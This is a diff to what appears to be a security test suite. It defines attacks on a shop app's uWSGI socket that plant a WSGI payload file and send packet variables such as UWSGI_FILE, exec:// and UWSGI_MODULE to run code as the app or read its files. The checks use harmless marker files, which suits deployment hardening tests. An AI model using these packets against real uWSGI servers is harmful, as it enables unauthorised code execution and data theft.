@@ -21,10 +21,11 @@ def ask(variables, modifier):
     return said
 ${variables === "each" ? "for n in range(1, 256):\n    try: ask({}, n)\n    except OSError as e: print(n, e)" : `print(ask(${variables}, ${modifier}))`}
 P`;
-const ran = "within 5 test -e /tmp/packet-ran || find /tmp /run /srv /dev/shm -name packet-ran 2>/dev/null | grep -q .";
-const evil = "/tmp/packet.py";
-const before = `printf 'open("/srv/shop/shared/instance/packet-ran", "w")\\ndef application(e, s):\\n    s("200 OK", [])\\n    return [b"owned"]\\napp = application\\n' >${evil}; chmod 644 ${evil}; mkdir -p /tmp/site; cp ${evil} /tmp/site/packet.py; chmod -R a+rX /tmp/site`;
-const after = "rm -rf /tmp/packet-ran /tmp/packet.py /tmp/site /srv/shop/shared/instance/packet-ran";
+const ran = "within 5 test -e /srv/shop/shared/instance/packet-ran";
+const evil = "/opt/packet/packet.py";
+/** A place of the attacker's that the app may read: its /tmp is its own. */
+const before = `mkdir -p /opt/packet; printf 'open("/srv/shop/shared/instance/packet-ran", "w")\\ndef application(e, s):\\n    s("200 OK", [])\\n    return [b"owned"]\\napp = application\\n' >${evil}; chmod -R a+rX /opt/packet`;
+const after = "rm -rf /opt/packet /srv/shop/shared/instance/packet-ran";
 const took = `${ran} || grep -q owned "$SAID"`;
 const by = (name: string, variables: string): Attack => ({
   ...{ group, name: `run code as the app: ${name}`, who: "local user", before, do: packet(variables), took, after },
@@ -32,18 +33,21 @@ const by = (name: string, variables: string): Attack => ({
 
 /** Whoever reaches uWSGI's own socket: with TCP any account of the server. */
 export const tcp: readonly Attack[] = [
-  by("UWSGI_FILE", '{"UWSGI_FILE": "/tmp/packet.py"}'),
-  by("UWSGI_FILE=exec://", '{"UWSGI_FILE": "exec://touch /srv/shop/shared/instance/packet-ran"}'),
-  by("UWSGI_FILE with an id of an app", '{"UWSGI_FILE": "/tmp/packet.py", "UWSGI_APPID": "/evil"}'),
+  by("UWSGI_FILE", '{"UWSGI_FILE": "/opt/packet/packet.py", "SCRIPT_NAME": "/a"}'),
+  by("UWSGI_FILE=exec://", '{"UWSGI_FILE": "exec://touch /srv/shop/shared/instance/packet-ran", "SCRIPT_NAME": "/e"}'),
+  by("UWSGI_FILE with an id of an app", '{"UWSGI_FILE": "/opt/packet/packet.py", "UWSGI_APPID": "/evil"}'),
   by(
     "UWSGI_SCRIPT",
-    '{"UWSGI_SCRIPT": "packet", "UWSGI_PYHOME": "/tmp/site", "UWSGI_CHDIR": "/tmp/site", "UWSGI_APPID": "/b"}',
+    '{"UWSGI_SCRIPT": "packet", "UWSGI_PYHOME": "/opt/packet", "UWSGI_CHDIR": "/opt/packet", "UWSGI_APPID": "/b"}',
   ),
   by(
     "UWSGI_MODULE",
-    '{"UWSGI_MODULE": "packet", "UWSGI_CALLABLE": "app", "UWSGI_CHDIR": "/tmp/site", "UWSGI_APPID": "/c"}',
+    '{"UWSGI_MODULE": "packet", "UWSGI_CALLABLE": "app", "UWSGI_CHDIR": "/opt/packet", "UWSGI_APPID": "/c"}',
   ),
-  by("a variable twice, the second empty", '{"UWSGI_FILE": "/tmp/packet.py", "UWSGI_FILE ": "", "SCRIPT_NAME": "/d"}'),
+  by(
+    "a variable twice, the second empty",
+    '{"UWSGI_FILE": "/opt/packet/packet.py", "UWSGI_FILE ": "", "SCRIPT_NAME": "/d"}',
+  ),
   {
     ...{ group, name: "read a file of the app's: UWSGI_POSTFILE", who: "local user" },
     before:
